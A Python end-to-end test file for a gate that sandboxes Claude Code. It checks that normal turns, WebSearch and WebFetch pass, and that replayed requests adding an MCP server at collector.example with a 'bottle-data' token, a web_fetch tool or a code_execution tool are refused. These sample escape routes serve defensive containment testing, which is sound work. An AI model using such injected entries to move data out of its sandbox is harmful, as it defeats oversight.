"""The API route's body policy with the real Claude Code: an ordinary turn, its WebSearch and its WebFetch
pass untouched; the same request with a provider-side fetch added is refused before the upstream."""

from __future__ import annotations

import contextlib
import http.server
import ipaddress
import json
import ssl
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import trustme

from claude_bottle.gate.resolver import StaticResolver
from claude_bottle.gate.settings import Endpoint
from claude_bottle.stub import DEFAULT_TEXT, TOOL_SEARCH, StubUpstream
from tests.conftest import GateFactory, RunningGate
from tests.e2e.test_claude_code import run_claude
from tests.helpers import exchange, make_token, parse_head

pytestmark = [pytest.mark.asyncio, pytest.mark.e2e]

PAGE = b"<html><body><h1>The fetched page</h1></body></html>"
# Claude Code asks the provider's domain check before a WebFetch; that goes to claude.ai, which a bottle
# does not reach, so the check is skipped (as a user behind a firewall would). The fetch itself goes through
# the gate's proxy.
SETTINGS = json.dumps({"skipWebFetchPreflight": True})
TOOLS = ("--allowedTools", "WebSearch,WebFetch", "--settings", SETTINGS)
# The page has a name, as pages on the web do: Claude Code's WebFetch (from 2.1.191) refuses a certificate
# that names only an IP address. The gate resolves the name (to a loopback address) and the bottle never does.
PAGE_NAME = "docs.example.com"
PAGE_ADDRESS = "127.0.0.2"


@contextlib.contextmanager
def https_page(ca: trustme.CA, name: str = PAGE_NAME, address: str = PAGE_ADDRESS,
               ) -> Iterator[tuple[Endpoint, list[str]]]:
    """A web page on a loopback ``address``, its certificate from ``ca`` for ``name``; yields the name and port
    it is served under, and what was asked."""
    asked: list[str] = []

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(PAGE)))
            self.end_headers()
            self.wfile.write(PAGE)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer((address, 0), Page)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ca.issue_cert(name).configure_cert(context)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
    thread.start()
    try:
        yield Endpoint(name, server.server_address[1]), asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def environment(gate: RunningGate, placeholder: str, ca_file: Path | None = None) -> dict[str, str]:
    return {
        "ANTHROPIC_BASE_URL": f"http://{gate.api}", "CLAUDE_CODE_OAUTH_TOKEN": placeholder,
        "HTTPS_PROXY": f"http://{gate.proxy}", "HTTP_PROXY": f"http://{gate.proxy}", "NO_PROXY": "127.0.0.1",
        **({"NODE_EXTRA_CA_CERTS": str(ca_file)} if ca_file else {}),
    }


def api_records(gate: RunningGate) -> list[dict[str, Any]]:
    return [r for r in gate.records() if r["listener"] == "api"]


def loads(stub: StubUpstream) -> int:
    """How many turns Claude Code spent loading a deferred tool with ToolSearch before calling it (from about
    2.1.300 WebSearch and WebFetch are offered that way; before, directly): the ToolSearch calls it replays."""
    return len({b.get("id") for r in stub.requests for m in (r.json() or {}).get("messages", [])
                if m.get("role") == "assistant" and isinstance(m.get("content"), list)
                for b in m["content"] if b.get("type") == "tool_use" and b.get("name") == TOOL_SEARCH})


async def test_an_ordinary_turn_passes_and_the_same_request_with_a_provider_fetch_is_refused(
    claude_binary: Path, make_gate: GateFactory, stub: StubUpstream, tmp_path: Path
) -> None:
    async with make_gate() as gate:
        result = await run_claude(claude_binary, tmp_path, environment(gate, make_token()), "say hi")
        assert result.returncode == 0, result.stderr
        assert DEFAULT_TEXT in result.stdout
        (turn,) = [r for r in stub.requests if r.target.startswith("/v1/messages")]
        # A process in the bottle replays Claude Code's own request with one addition each.
        sent = turn.json()
        attacks = {
            "mcp_servers": {**sent, "mcp_servers": [{"type": "url", "url": "https://collector.example/sse",
                                                     "name": "c", "authorization_token": "bottle-data"}]},
            "web_fetch": {**sent, "tools": [*sent["tools"], {"type": "web_fetch_20250910", "name": "web_fetch"}]},
            "code_execution": {**sent, "tools": [*sent["tools"], {"type": "code_execution_20250825",
                                                                  "name": "code_execution"}]},
        }
        answers = {}
        for name, body in attacks.items():
            data = json.dumps(body).encode()
            head = (f"POST {turn.target} HTTP/1.1\r\nHost: gate\r\nContent-Type: application/json\r\n"
                    f"Content-Length: {len(data)}\r\nConnection: close\r\n\r\n").encode()
            answers[name] = await exchange(gate.api, head + data, 5)

    assert len([r for r in stub.requests if r.target.startswith("/v1/messages")]) == 1, "an attack got upstream"
    for name, answer in answers.items():
        status, headers = parse_head(answer)
        assert status == 403 and name in headers["x-deny-reason"], (name, answer[:300])
        error = json.loads(answer.split(b"\r\n\r\n", 1)[1])
        assert error["type"] == "error" and error["error"]["type"] == "permission_error"
    records = api_records(gate)
    assert [r["decision"] for r in records] == ["allow", "deny", "deny", "deny"]


async def test_web_search_passes_the_policy(
    claude_binary: Path, make_gate: GateFactory, stub: StubUpstream, tmp_path: Path
) -> None:
    async with make_gate() as gate:
        result = await run_claude(claude_binary, tmp_path, environment(gate, make_token()), "search: claude bottle",
                                  TOOLS)
    assert result.returncode == 0, result.stderr
    assert 'Tool said: Web search results for query: "claude bottle"' in result.stdout
    searches = [r for r in stub.requests if any(t.get("type") == "web_search_20250305"
                                                for t in (r.json() or {}).get("tools", []))]
    assert len(searches) == 1
    assert all(r["decision"] == "allow" for r in api_records(gate)) and len(api_records(gate)) == 3 + loads(stub)


async def test_web_fetch_goes_through_the_proxy_and_its_summary_passes_the_policy(
    claude_binary: Path, make_gate: GateFactory, stub: StubUpstream, tmp_path: Path
) -> None:
    ca = trustme.CA()
    ca_file = tmp_path / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    with https_page(ca) as (page, asked):
        resolver = StaticResolver({PAGE_NAME: [ipaddress.ip_address(PAGE_ADDRESS)]})
        async with make_gate(allow=(str(page),), allow_private=(f"{PAGE_ADDRESS}/32",), resolver=resolver) as gate:
            result = await run_claude(claude_binary, tmp_path, environment(gate, make_token(), ca_file),
                                      f"fetch: https://{page}/article", TOOLS)
    assert result.returncode == 0, result.stderr
    assert asked == ["/article"], "Claude Code did not fetch the page"
    assert f"Tool said: {DEFAULT_TEXT}" in result.stdout  # the summary the stub wrote, from the fetched page
    summaries = [r for r in stub.requests if r.json() and r.json().get("tools") == []]
    assert summaries and "The fetched page" in summaries[0].body.decode()
    assert all(r["decision"] == "allow" for r in api_records(gate)) and len(api_records(gate)) == 3 + loads(stub)
    assert any(r["listener"] == "proxy" and r["target"] == str(page) and r["decision"] == "allow"
               for r in gate.records())
